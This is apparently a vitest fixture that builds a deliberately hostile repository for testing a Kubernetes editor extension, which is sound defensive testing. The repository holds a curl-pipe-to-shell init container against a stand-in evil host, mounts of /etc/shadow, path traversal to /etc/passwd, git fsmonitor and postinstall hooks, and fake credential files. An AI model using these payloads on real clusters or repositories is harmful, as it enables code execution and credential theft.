import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { onTestFinished } from 'vitest';

const POD = `apiVersion: v1
kind: Pod
metadata:
  name: "[x](command:workbench.action.terminal.new)"
  namespace: shop
  labels:
    a: "![p](https://labels.evil.test/p.png)"
    b: https://links.evil.test/
spec:
  initContainers:
    - name: fetch
      image: docker.io/library/curl:latest
      command: [sh, -c, "curl -sL https://scripts.evil.test/x.sh | sh; kubectl get secrets"]
  containers:
    - name: web
      image: ghcr.io/evil/web:1
      securityContext: { privileged: true }
      envFrom: [{ secretRef: { name: keys } }]
    - name: proxy
      image: 169.254.169.254:5000/proxy@sha256:0123
      volumeMounts: [{ name: host, mountPath: /host }]
  volumes:
    - name: host
      hostPath: { path: /etc/shadow }
`;
const POLICIES = `apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: asks-others }
spec:
  rules:
    - name: asks
      match: { any: [{ resources: { kinds: [Pod] } }] }
      context:
        - name: cluster
          apiCall: { urlPath: /api/v1/namespaces, service: { url: "https://policies.evil.test/x" } }
        - name: registry
          imageRegistry: { reference: "ghcr.io/evil/web:1" }
      validate:
        message: "{{ cluster }}"
        pattern: { spec: { containers: [{ image: "ghcr.io/*" }] } }
      verifyImages:
        - imageReferences: ["*"]
          attestors: [{ entries: [{ keyless: { rekor: { url: "https://rekor.evil.test" }, subject: "*" } }] }]
---
apiVersion: externaldata.gatekeeper.sh/v1beta1
kind: Provider
metadata: { name: outside }
spec: { url: "https://provider.evil.test/validate", timeout: 30 }
---
apiVersion: policy.sigstore.dev/v1beta1
kind: ClusterImagePolicy
metadata: { name: remote }
spec:
  images: [{ glob: "**" }]
  authorities: [{ keyless: { url: "https://fulcio.evil.test" }, ctlog: { url: "https://rekor.evil.test" } }]
`;
const KUSTOMIZATION = `resources:
  - https://github.com/evil/repository//base?ref=main
  - git@github.com:evil/repository.git
  - ../outside/secret.yaml
  - ../../../../../../etc/passwd
  - /etc/hosts
  - linked-file.yaml
  - linked-folder
  - pod.yaml
components: [https://components.evil.test/a.yaml]
helmCharts: [{ name: x, repo: "https://charts.evil.test" }]
configurations: [../outside/secret.yaml]
patches: [{ path: ../outside/secret.yaml }]
images: [{ name: ghcr.io/evil/web, newName: registry.evil.test/web }]
`;
const KUBECONFIG = `apiVersion: v1
kind: Config
current-context: evil
clusters: [{ name: evil, cluster: { server: "https://cluster.evil.test" } }]
users: [{ name: evil, user: { exec: { command: ./bin/kubectl, apiVersion: client.authentication.k8s.io/v1 } } }]
contexts: [{ name: evil, context: { cluster: evil, user: evil } }]
`;
const SETTINGS = {
  'sidecarGuard.kubectl.path': './bin/kubectl',
  'sidecarGuard.kubectl.debugImage': 'evil.test/debug',
  'sidecarGuard.images.insecureRegistries': ['ghcr.io', '169.254.169.254:5000'],
  'http.proxy': 'http://proxy.evil.test:3128',
  'yaml.schemas': { 'https://schemas.evil.test/x.json': '*.yaml' },
};
const GIT = `[core]
\tfsmonitor = ./bin/monitor
\thooksPath = .git/hooks
\tsshCommand = ./bin/monitor
[include]
\tpath = ../../outside/gitconfig
`;

const FILES: Readonly<Record<string, string>> = {
  'repository/pod.yaml': POD,
  'repository/policies.yaml': POLICIES,
  'repository/kustomization.yaml': KUSTOMIZATION,
  'repository/deep/kustomization.yaml': 'resources: [.., ../../outside, https://evil.test/x.yaml]\n',
  'repository/kubeconfig.yaml': KUBECONFIG,
  'repository/.kube/config': KUBECONFIG,
  'repository/.docker/config.json': '{ "credsStore": "evil", "credHelpers": { "ghcr.io": "evil" } }',
  'repository/.sidecar-guard.yaml':
    'images:\n  allowedRegistries: [ghcr.io]\n  insecureRegistries: [ghcr.io]\nextends: ../outside/secret.yaml\n',
  'repository/.vscode/settings.json': JSON.stringify(SETTINGS),
  'repository/.git/HEAD': 'ref: refs/heads/main\n',
  'repository/.git/config': GIT,
  'repository/.git/refs/heads/main': `${'0'.repeat(40)}\n`,
  'repository/.git/hidden.yaml': POD,
  'repository/.gitignore': 'ignored\n',
  'repository/node_modules/ignore/index.js': 'require("fs").writeFileSync("/tmp/ran", "")\n',
  'repository/package.json': '{ "scripts": { "postinstall": "./bin/kubectl" } }',
  'outside/secret.yaml': `${POD}# hunter2\n`,
  'outside/gitconfig': '[core]\n\tfsmonitor = ./bin/monitor\n',
  'outside/kustomization.yaml': 'resources: [secret.yaml]\n',
  'home/.docker/config.json': '{ "auths": { "ghcr.io": { "auth": "aHVudGVyMg==" } } }',
  'home/.kube/config': KUBECONFIG,
  'home/.netrc': 'default login x password hunter2\n',
};
/** Programs of the repository, which leave a mark where they are run. */
const PROGRAMS = [
  'bin/kubectl',
  'bin/docker-credential-evil',
  'bin/monitor',
  '.git/hooks/post-checkout',
  '.git/hooks/fsmonitor-watchman',
];
/** Where links lead, by their names in the repository. */
const LINKS: Readonly<Record<string, string>> = {
  'linked-file.yaml': '../outside/secret.yaml',
  'linked-folder': '../outside',
  'linked-twice.yaml': 'linked-folder/secret.yaml',
  'linked-system.yaml': '/etc/hosts',
  'linked-git.yaml': '.git/config',
  'linked-to-itself.yaml': 'linked-to-itself.yaml',
  'deep/linked-up': '../..',
};

/** A repository that tries what it can to have programs run, others asked, and files outside of it read. */
export interface HostileRepository {
  readonly folder: string;
  /** Beside it: a home folder with credentials. */
  readonly home: string;
  /** Those of its files that an editor opens, links included, by name. */
  readonly openable: readonly string[];
  /** What is added to the environment: a way to its programs, as a user who works there has. */
  readonly environment: Record<string, string>;
  /** Left behind by its programs. */
  readonly mark: string;
}

export function hostileRepository(): HostileRepository {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'sidecar-guard-hostile-')));
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  const folder = join(root, 'repository');
  const mark = join(root, 'ran');
  const write = (path: string, text: string): void => {
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
  };
  for (const [name, text] of Object.entries(FILES)) write(join(root, name), text);
  for (const name of PROGRAMS) {
    write(join(folder, name), `#!/bin/sh\necho "$0" >>'${mark}'\n`);
    chmodSync(join(folder, name), 0o755);
  }
  for (const [name, target] of Object.entries(LINKS)) symlinkSync(target, join(folder, name));
  return {
    folder,
    home: join(root, 'home'),
    openable: [
      'pod.yaml',
      'policies.yaml',
      'kustomization.yaml',
      'kubeconfig.yaml',
      '.sidecar-guard.yaml',
      'linked-file.yaml',
      'linked-twice.yaml',
    ],
    environment: { PATH: `${join(folder, 'bin')}:${process.env.PATH}`, UV_USE_IO_URING: '0' },
    mark,
  };
}
